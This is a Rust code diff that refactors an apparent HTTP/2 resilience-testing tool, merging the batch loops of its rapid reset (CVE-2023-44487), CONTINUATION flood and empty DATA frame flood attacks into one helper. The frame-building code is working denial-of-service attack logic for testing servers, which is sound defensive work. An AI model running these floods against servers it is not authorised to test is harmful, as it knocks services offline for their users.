@@ -6,9 +6,9 @@
 
 use std::time::Duration;
 
-use super::{Config, judge::schedule_outcome};
+use super::Config;
 use crate::{
-    client::{self, Ask, Fetched, Target, frames::*},
+    client::{self, Ask, Target, frames::*},
     outcome::{Level, Outcome},
 };
 
@@ -85,7 +85,7 @@ async fn beside_victim(
             "no GOAWAY and no close after {sent} {unit} (the bound): the server takes the \
              attack without end"
         )),
-        Ok((answer, sent)) => judge_after(
+        Ok((answer, sent)) => super::judge::after_attack(
             cfg,
             &victim,
             &fresh,
@@ -94,28 +94,6 @@ async fn beside_victim(
     };
     outcome.evidence = vec![victim.evidence, fresh.evidence];
     outcome
-}
-
-/// The victim on schedule and the fresh request answered, or which of them was not.
-fn judge_after(cfg: &Config, victim: &Fetched, fresh: &Fetched, said: String) -> Outcome {
-    if let Some(problem) = super::judge::content_problem(&victim.body, cfg.count) {
-        return Outcome::fail(format!(
-            "{said}; the victim stream on its own connection: {problem}"
-        ));
-    }
-    let timing = schedule_outcome(victim.lines(), cfg.interval, cfg.tolerance);
-    if timing.level != Level::Pass {
-        return Outcome::fail(format!("{said}; the victim stream: {}", timing.reason));
-    }
-    match fresh.status() {
-        Some(200) => Outcome::pass(format!(
-            "{said}; the victim stream: {}; a fresh request after it: 200",
-            timing.reason
-        )),
-        status => Outcome::fail(format!(
-            "{said}; a fresh request after it got {status:?}: the server did not recover"
-        )),
-    }
 }
 
 /// Rapid reset (CVE-2023-44487): streams opened and reset at once, in batches of 1 000 pairs,
@@ -158,21 +136,13 @@ pub(crate) async fn rapid_reset(
 ) -> Result<(Answer, u32), String> {
     let mut raw = Raw::open(target, &[]).await?;
     let block = raw.request_block(path);
-    let mut sent = 0;
-    while sent < pairs {
-        for i in sent..sent + 1_000 {
+    Ok(in_batches(&mut raw, 1_000, pairs, |raw, first| {
+        for i in first..first + 1_000 {
             raw.queue(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block);
             raw.queue(RST_STREAM, 0, 2 * i + 1, &CANCEL.to_be_bytes());
         }
-        if raw.flush().await.is_err() {
-            return Ok((Answer::Closed, sent));
-        }
-        sent += 1_000;
-        if let Some(answer) = answered(&mut raw).await {
-            return Ok((answer, sent));
-        }
-    }
-    Ok((Answer::Nothing, sent))
+    })
+    .await)
 }
 
 /// A HEADERS frame for `path` without END_HEADERS, then CONTINUATION frames of 1 KiB of header
@@ -188,20 +158,12 @@ pub(crate) async fn continuation_flood(
     // `x-flood: aaa…` (1000 bytes), a literal without indexing with a new name.
     let mut field = b"\x00\x07x-flood\x7f\xe9\x06".to_vec();
     field.extend(std::iter::repeat_n(b'a', 1000));
-    let mut sent = 0;
-    while sent < frames {
+    Ok(in_batches(&mut raw, 100, frames, |raw, _| {
         for _ in 0..100 {
             raw.queue(CONTINUATION, 0, 1, &field);
         }
-        if raw.flush().await.is_err() {
-            return Ok((Answer::Closed, sent));
-        }
-        sent += 100;
-        if let Some(answer) = answered(&mut raw).await {
-            return Ok((answer, sent));
-        }
-    }
-    Ok((Answer::Nothing, sent))
+    })
+    .await)
 }
 
 /// Empty DATA frames without END_STREAM on one open request (CVE-2019-9518, RUSTSEC-2026-0258):
@@ -211,20 +173,32 @@ pub(crate) async fn empty_frame_flood(
 ) -> Result<(Answer, u32), String> {
     let mut raw = Raw::open(target, &[]).await?;
     raw.queue(HEADERS, END_HEADERS, 1, &raw.request_block(path));
-    let mut sent = 0;
-    while sent < frames {
+    Ok(in_batches(&mut raw, 1_000, frames, |raw, _| {
         for _ in 0..1_000 {
             raw.queue(DATA, 0, 1, &[]);
         }
+    })
+    .await)
+}
+
+/// Sends an attack in batches of `batch` units, each queued by `queue(raw, units sent so far)`,
+/// reading what the server answers after each, until it says GOAWAY or closes, at most `bound`
+/// units: what it answered, after how many units.
+async fn in_batches(
+    raw: &mut Raw, batch: u32, bound: u32, mut queue: impl FnMut(&mut Raw, u32),
+) -> (Answer, u32) {
+    let mut sent = 0;
+    while sent < bound {
+        queue(raw, sent);
         if raw.flush().await.is_err() {
-            return Ok((Answer::Closed, sent));
+            return (Answer::Closed, sent);
         }
-        sent += 1_000;
-        if let Some(answer) = answered(&mut raw).await {
-            return Ok((answer, sent));
+        sent += batch;
+        if let Some(answer) = answered(raw).await {
+            return (answer, sent);
         }
     }
-    Ok((Answer::Nothing, sent))
+    (Answer::Nothing, sent)
 }
 
 /// What the stream flood saw: the limit the server advertised, the streams it answered and
